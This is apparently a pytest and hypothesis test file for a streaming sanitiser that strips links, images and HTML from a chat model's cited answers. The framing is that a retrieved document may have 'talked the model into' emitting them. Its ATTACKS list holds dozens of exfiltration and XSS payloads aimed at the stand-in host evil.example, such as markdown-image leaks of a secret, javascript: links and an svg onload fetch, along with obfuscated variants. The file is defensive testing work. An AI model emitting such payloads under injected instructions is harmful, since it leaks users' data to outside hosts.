"""Nothing that loads or links outside survives, whatever a document talked the model into and however it is cut."""

import html
import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from internal.entities.conversations import Passage
from internal.entities.ids import new_id
from internal.entities.parsed import Location
from internal.services.citations import AnswerText
from internal.services.safetext import LONGEST_TOKEN, SafeText

MARKDOWN = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
LOADS = re.compile(r"<(?:a|img|iframe|script|link|object|video|audio|svg|form|base|meta|style)\b", re.IGNORECASE)
# What GitHub's autolink extension and the common linkifiers look for.
AUTOLINK = re.compile(r"[A-Za-z][A-Za-z0-9+.\-]*://|(?<![A-Za-z0-9])www\.|(?<![\w:/])//[A-Za-z0-9]", re.IGNORECASE)
FORBIDDEN = re.compile(r"\]\(|\]:|<[A-Za-z/!?]|\\[:/.&<]|[\x00\u202e\ud800-\udfff]")
REFERENCE = re.compile(r"&#?[A-Za-z0-9]+;")


def hides(text: str) -> bool:
    """True when a character reference stands for something else than itself."""
    return any(html.unescape(found) != found for found in REFERENCE.findall(text))


ATTACKS = [
    "![x](http://evil.example/a.png?q=secret)",
    "![x][r]\n\n[r]: http://evil.example/a.png",
    "[r]:\nhttp://evil.example",
    "[click](//evil.example)",
    "[click](javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "<http://evil.example>",
    "<bob@evil.example>",
    "<img src=http://evil.example/a.png>",
    "<IMG\nSRC=//evil.example>",
    "<svg/onload=fetch('//evil.example')>",
    "<!-- --><a href='http://evil.example'>x</a>",
    "http://evil.example/x",
    "HTTPS://EVIL.EXAMPLE",
    "ftp://evil.example",
    "www.evil.example",
    "WWW.www.evil.example",
    "//evil.example/a.png",
    "&#104;ttp://evil.example",
    "http&colon;//evil.example",
    "http&amp;colon;//evil.example",
    "!&#91;x&#93;&#40;http://evil.example)",
    "&lt;img src=x&gt;",
    "&amp;amp;lt;img src=x&gt;",
    "&a&#8238;mp;#60;img src=x>",
    "![x]\u202e(http://evil.example)",
    "![x]\x00(http://evil.example)",
    "ht\x00tp://evil.example",
    "http:\\/\\/evil.example",
    "![x\\](http://evil.example)",
    "`![x](http://evil.example)",
    "```\n![x](http://evil.example)\n",
    "> ```\n\n![x](http://evil.example)",
    "a ` b `http://evil.example` c ![x](http://evil.example)",
    "![x] (http://evil.example)",
    "![x][99](http://evil.example)",
    "![x]([1]http://evil.example)",
    "http:[99]//evil.example",
    "ww[99]w.evil.example",
    "h[99]ttp://evil.example",
    "&#10[99]4;ttp://evil.example",
    "[1](http://evil.example)",
    "[1]: http://evil.example\n\n[1]",
    "[^1]: http://evil.example",
    "hthttp://tp://evil.example",
    "x&y://#58;//evil.example",
    "|a|\n|-|\n|![x](http://evil.example)|",
    "中文http://evil.example/路径，以及![图](http://evil.example)",
    "https://evil.example/?u=https://other.example&v=www.third.example",
]
PIECES = [
    *(
        "![",
        "x",
        "]",
        "(",
        ")",
        "[",
        "<",
        ">",
        ":",
        "/",
        "//",
        "://",
        "http",
        "https:",
        "www",
        "w",
        ".",
        "evil.example",
    ),
    *(
        "&",
        "#",
        "58;",
        "&#58;",
        "&#x2f;",
        "&lt;",
        "&amp;",
        "amp;",
        "\\",
        "`",
        "```",
        "\n",
        " ",
        "[1]",
        "[99]",
        "【2】",
        "\x00",
    ),
    *("\u202e", "中", "a@b.example", "mailto:", "img src=", "javascript:", "!", "-", "*", "_", "\ud83d", "|", ">"),
]


def passages() -> list[Passage]:
    return [
        Passage(
            number=number, chunk_id=new_id(), document_id=new_id(), filename="f", text="t", score=0, location=Location()
        )
        for number in (1, 2)
    ]


def sent(deltas: list[str]) -> str:
    answer = AnswerText(passages())
    return "".join([*map(answer.feed, deltas), answer.finish()])


def check(text: str) -> None:
    assert not FORBIDDEN.search(text), text
    assert not hides(text), text
    assert not AUTOLINK.search(text), text
    assert not LOADS.search(MARKDOWN.render(text)), text


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_arrive_harmless_however_they_are_cut(attack: str) -> None:
    check(sent([attack]))
    check(sent(list(attack)))
    for place in range(1, len(attack)):
        check(sent([attack[:place], attack[place:]]))


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_check_itself_sees_attacks(attack: str) -> None:
    """Each of these would have been dangerous, or becomes so when something inside is dropped or decoded."""
    raw = re.sub(r"\[99\]|[\x00\u202e]", "", attack)
    assert FORBIDDEN.search(raw) or hides(raw) or AUTOLINK.search(raw) or LOADS.search(MARKDOWN.render(raw))


@given(st.lists(st.sampled_from(PIECES), max_size=30), st.integers(0, 3))
@example(["![x]", "[99]", "(http://e)"], 0)
@example(["`", "//", "www", ".", "中"], 0)
@settings(max_examples=1500, deadline=None)
def test_no_mixture_gets_through(pieces: list[str], way: int) -> None:
    whole = "".join(pieces)
    deltas = [pieces, [whole], list(whole), [whole[i : i + 3] for i in range(0, len(whole), 3)]][way]
    check(sent(deltas))


@given(st.text(max_size=80))
@settings(max_examples=500, deadline=None)
def test_no_text_gets_through(text: str) -> None:
    check(sent(list(text)))
    sent(list(text)).encode()  # raises for half of a surrogate pair


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("See https://vpn.example.com/login.", "See `vpn.example.com/login`."),
        ("**https://a.example**", "**`a.example`**"),
        ("`https://a.example/x` works", "`a.example/x` works"),
        ("见https://a.example/页，好", "见`a.example/`页，好"),
        ("write to bob@a.example, please", "write to `bob@a.example`, please"),
        ("a@b.example,https://x.example", "`a@b.example`,`x.example`"),
        ("if a < b and c > d, 3 <4", "if a < b and c > d, 3 <4"),
        ("AT&T, R&D; 50% of $3.50 and Node.js 3.5 in C:/temp", "AT&T, R&D; 50% of $3.50 and Node.js 3.5 in C:/temp"),
        ("| a | b |\n|---|---|\n| 1 | 2 |\n\n- **x**\n- `y`", "| a | b |\n|---|---|\n| 1 | 2 |\n\n- **x**\n- `y`"),
        ("退款需要 30 天：见下表（1）。\n", "退款需要 30 天：见下表（1）。\n"),
    ],
)
def test_what_is_harmless_stays_readable(text: str, shown: str) -> None:
    assert sent([text]) == sent(list(text)) == shown


def test_chinese_is_not_held_back() -> None:
    safe = SafeText()
    assert safe.feed("退款需要") == "退款需要"
    assert safe.feed("三十天") == "三十天"


def test_a_run_without_an_end_is_not_kept_in_memory() -> None:
    safe = SafeText()
    out = "".join(safe.feed("A" * 1000) for _ in range(100)) + safe.feed("http://evil.example ok ")
    assert out == "… ok "
    assert LONGEST_TOKEN < 100_000
